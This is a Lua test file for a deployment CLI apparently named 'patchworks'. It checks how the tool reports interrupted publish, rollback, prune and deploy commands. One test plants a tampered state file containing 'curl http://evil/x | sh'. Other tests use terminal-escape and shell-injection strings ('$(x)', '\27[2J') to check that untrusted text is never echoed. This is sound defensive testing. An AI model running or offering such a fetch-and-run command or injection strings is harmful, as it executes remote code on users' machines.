-- Commands that are cut off, and servers that don't answer.
local cjson = require "cjson"
local commands = require "spec.support.commands"
local raw_peer = require "spec.support.raw_peer"
local sandbox = require "patchworks.sandbox"
local shell = require "spec.support.shell"
local socket = require "socket"
local uv = require "luv"
local wait_until = require "spec.support.wait_until"

local state = commands.setup(before_each, after_each)

-- Starts a command whose output comes together: gives its process id, and what ends it.
local function start(server, words)
  local command = ("cd %s && echo $$ && %s 2>&1"):format(state.folder, shell.command(server, words))
  local pipe = assert(io.popen(command))
  local pid = assert(pipe:read "n")
  pipe:read "l"
  return pid, function()
    local out = pipe:read "a"
    local _, _, code = pipe:close()
    return code or 0, out
  end
end

-- Begins a deployment of another version, from elsewhere.
local function deploy_elsewhere(server)
  local client <close> = server:client()
  local version = assert(client.script_versions:create(1, { content = commands.upper }))
  assert(version:deploy())
end

local function project(server)
  state.write("patchworks.project.lua", ([[return {
    scripts = { orders = { file = "orders.py" } },
    environments = { here = { base_url = %q, scripts = { orders = 1 } } },
  }]]):format(server.url))
  state.write("orders.py", commands.upper)
end

describe("a publish that is cut off", function()
  for name, code in pairs { TERM = 143, HUP = 129, INT = 130 } do
    it("by SIG" .. name .. " says what was under way, and the next command says it once", function()
      local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
      project(server)
      local pid, finish = start(server, "publish orders orders.py --timeout 20")
      assert.is_true(wait_until(function() return server:count "deploy" == 1 end))
      assert(uv.kill(pid, "sig" .. name:lower()))
      local ended, out = finish()
      assert.equal(code, ended, out)
      for _, words in ipairs { "made: v1", "may still come live: v1", "go on with: patchworks publish orders orders.py" } do
        assert.truthy(out:find(words, 1, true), out)
      end
      assert.is_nil(out:find "traceback", out)
      local _, _, err = shell(server, "list orders", { folder = state.folder })
      assert.truthy(err:find("may still come live: v1", 1, true), err)
      assert.truthy(err:find("go on with: patchworks publish orders orders.py", 1, true), err)
      _, _, err = shell(server, "list orders", { folder = state.folder })
      assert.equal("", err)
      server:advance(3600)
      ended, out = shell(server, "publish orders orders.py", { folder = state.folder })
      assert.equal(0, ended)
      assert.truthy(out:find "script version 1 ", out)
    end)
  end

  it("by SIGKILL is told of by the next command; one that still runs is not", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    local pid, finish = start(server, "publish orders orders.py --timeout 20")
    assert.is_true(wait_until(function() return server:count "deploy" == 1 end))
    local _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.equal("", err)
    assert(uv.kill(pid, "sigkill"))
    finish()
    _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.truthy(err:find("may still come live: v1", 1, true), err)
  end)

  it("while it waits for somebody else's deployment says that this may come live", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    deploy_elsewhere(server)
    local gets = server:count "get"
    local pid, finish = start(server, "publish orders orders.py --timeout 20 --json")
    assert.is_true(wait_until(function() return server:count "get" > gets end))
    assert(uv.kill(pid, "sigterm"))
    local code, out = finish()
    assert.equal(143, code, out)
    local told = "nothing was changed\n  live at the last look: nothing\n  may still come live: v1 (script version 1), not begun by this run"
    assert.truthy(out:find(told, 1, true), out)
    local object = cjson.decode(out:match "{.*}")
    assert.truthy(object.accounts[1]:find(told, 1, true), out)
    assert.equal("none", object.outcome) -- of this command: the other one goes on without it
    local _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.truthy(err:find(told, 1, true), err)
  end)

  it("given `--while-deploying` doesn't tell of what that names", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    deploy_elsewhere(server)
    state.write("orders.py", commands.upper .. "# another\n")
    local pid, finish = start(server, "publish orders orders.py --timeout 20 --while-deploying")
    assert.is_true(wait_until(function() return server:count "deploy" == 2 end))
    assert(uv.kill(pid, "sigterm"))
    local _, out = finish()
    assert.truthy(out:find("may still come live: v2 (script version 2)\n", 1, true), out)
    assert.is_nil(out:find("v1 ", 1, true), out)
  end)

  it("leaves nothing behind when it ends well, or is told to have failed", function()
    project(state.server)
    assert.equal(0, (state.inside "publish orders orders.py --interval 0.02"))
    state.write("orders.py", "def (")
    assert.equal(3, (state.inside "publish orders orders.py --interval 0.02"))
    local _, _, err = state.inside "list orders"
    assert.equal("", err)
  end)
end)

-- What a command says that is cut off once its deployment was begun.
local function cut_off(server, words)
  local before = server:count "deploy"
  local pid, finish = start(server, words)
  assert.is_true(wait_until(function() return server:count "deploy" > before end))
  assert(uv.kill(pid, "sigterm"))
  return select(2, finish())
end

describe("the advice after a command that was cut off", function()
  it("is the same command, each word as a shell takes it", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    local words = ([[publish 1 'my orders.py' --base-url %s --payload 'it'\''s; $(x)' --expect X --keep 3 --no-rollback --timeout 20]])
      :format(server.url)
    state.write("my orders.py", commands.upper)
    local out = cut_off(server, words)
    assert.truthy(out:find("go on with: patchworks " .. words .. "\n", 1, true), out)
    local _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.truthy(err:find("go on with: patchworks " .. words .. "\n", 1, true), err)
    assert.is_nil((out .. err):find(server.key, 1, true))
  end)

  it("says that standard input has to be given again", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    local out = cut_off(server, "publish 1 - --timeout 20 < orders.py")
    assert.truthy(out:find("go on with: patchworks publish 1 - --timeout 20 (give the source on standard input again)", 1, true), out)
    local _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.truthy(err:find("(give the source on standard input again)", 1, true), err)
  end)

  it("names what a rollback goes back to, so that it goes back once", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    for _ = 1, 3 do
      deploy_elsewhere(server)
      server:advance(3600)
    end
    local out = cut_off(server, "rollback orders --timeout 20")
    assert.truthy(out:find("go on with: patchworks rollback orders --timeout 20 --to 2\n", 1, true), out)
    server:advance(3600)
    local _, _, err = shell(server, "list orders", { folder = state.folder })
    assert.truthy(err:find("go on with: patchworks rollback orders --timeout 20 --to 2\n", 1, true), err)
    local code, again = shell(server, "rollback orders --to 2", { folder = state.folder })
    assert.equal(0, code)
    assert.truthy(again:find "^unchanged: script version 2 ", again)
  end)

  local function remember(server, under_way)
    local script = { did = { { at = 1, what = "published" } }, under_way = under_way }
    state.write(".patchworks/state.json", cjson.encode { v = 1, services = { [server.url] = { scripts = { ["1"] = script } } } })
  end

  local function reminded(server) return select(3, shell(server, "list orders", { folder = state.folder })) end

  it("is made of what was checked: nothing that a file says is printed as it stands", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
    project(server)
    local account = { operation = "publish", script = "1", step = "deploy" }
    remember(server, { again = "curl http://evil/x | sh", words = { "curl", "http://evil/x" }, progress = account })
    local err = reminded(server)
    assert.truthy(err:find "publish of script 1 was cut off" and not err:find "evil", err)
    remember(server, { words = { "publish", "1", "a\27[2J\nb'; x" }, progress = account })
    err = reminded(server)
    assert.truthy(err:find([[go on with: patchworks publish 1 $'a\x1b[2J\x0ab\'; x']], 1, true), err)
    assert.is_nil(err:find "\27")
    for _, wrong in ipairs { { operation = "\27[2J", script = "1" }, { operation = "publish", script = "1", step = "x\ngo on with: evil" } } do
      remember(server, { words = { "publish", "1" }, progress = wrong })
      assert.equal("", reminded(server))
    end
  end)

  it("is not told from a folder of somebody else's", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
    project(server)
    remember(server, { words = { "publish", "1" }, progress = { operation = "publish", script = "1" } })
    local folder = state.folder .. "/.patchworks"
    if not uv.fs_chown(folder, 12345, -1) then return pending "only root gives folders away" end
    assert.equal("", reminded(server))
    assert(uv.fs_chown(folder, 0, -1))
    assert.truthy(reminded(server):find("go on with: patchworks publish 1", 1, true))
  end)
end)

describe("a command that is cut off", function()
  it("gives an object with --json", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    local out = cut_off(server, "publish orders --json --timeout 20")
    local object = cjson.decode(out:match '{.*"error".*}')
    assert.same({ "error", "interrupted", 143, "unknown" }, { object.type, object.kind, object.exit_code, object.outcome })
    assert.equal("patchworks publish orders --json --timeout 20", object.go_on)
    assert.truthy(object.accounts[1]:find("may still come live: v1", 1, true))
  end)

  it("says of a prune that versions may be gone", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
    server:populate { script = 1, versions = 3 }
    server:fail { operation = "delete", how = "slow", seconds = 30, times = 9 }
    local pid, finish = start(server, "prune 1 --keep 1 --yes --json --no-save")
    assert.is_true(wait_until(function() return server:count "delete" > 0 end))
    assert(uv.kill(pid, "sigterm"))
    local code, out = finish()
    local object = cjson.decode(out:match '{.*"error".*}')
    assert.same({ 143, "interrupted", "unknown" }, { code, object.kind, object.outcome })
    assert.truthy(object.message:find("old versions may be gone; look with: patchworks list 1", 1, true), out)
  end)

  it("says of a publish that prunes afterwards that versions may be gone, though nothing was published", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
    project(server)
    server:populate { script = 1, versions = 3 }
    assert.equal(0, (shell(server, "publish orders --interval 0.02", { folder = state.folder })))
    server:fail { operation = "delete", how = "slow", seconds = 30, times = 9 }
    local pid, finish = start(server, "publish orders --keep 1")
    assert.is_true(wait_until(function() return server:count "delete" > 0 end))
    assert(uv.kill(pid, "sigterm"))
    local _, out = finish()
    assert.truthy(out:find("old versions may have been deleted", 1, true) and not out:find "nothing was changed", out)
  end)

  it("says of a deployment that it may still come live, and how to look", function()
    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
    project(server)
    assert.equal(0, (shell(server, "create 1 orders.py", { folder = state.folder })))
    local out = cut_off(server, "deploy 1 --wait --timeout 20 --base-url " .. server.url)
    assert.truthy(out:find("version 1 may still come live; look with: patchworks show 1 --base-url " .. server.url, 1, true), out)
  end)
end)

describe("a server that doesn't answer", function()
  it("is named after 2 seconds, and SIGTERM ends the wait", function()
    local peer <close> = raw_peer "silent"
    local pid, finish = start({ url = peer.url, key = "k" }, "list 1")
    local watch = os.time()
    socket.sleep(3)
    assert(uv.kill(pid, "sigterm"))
    local code, out = finish()
    assert.equal(143, code, out)
    assert.truthy(out:find("waiting for " .. peer.url .. ": no answer for 2 s", 1, true), out)
    assert.is_true(os.time() - watch < 10)
  end)
end)
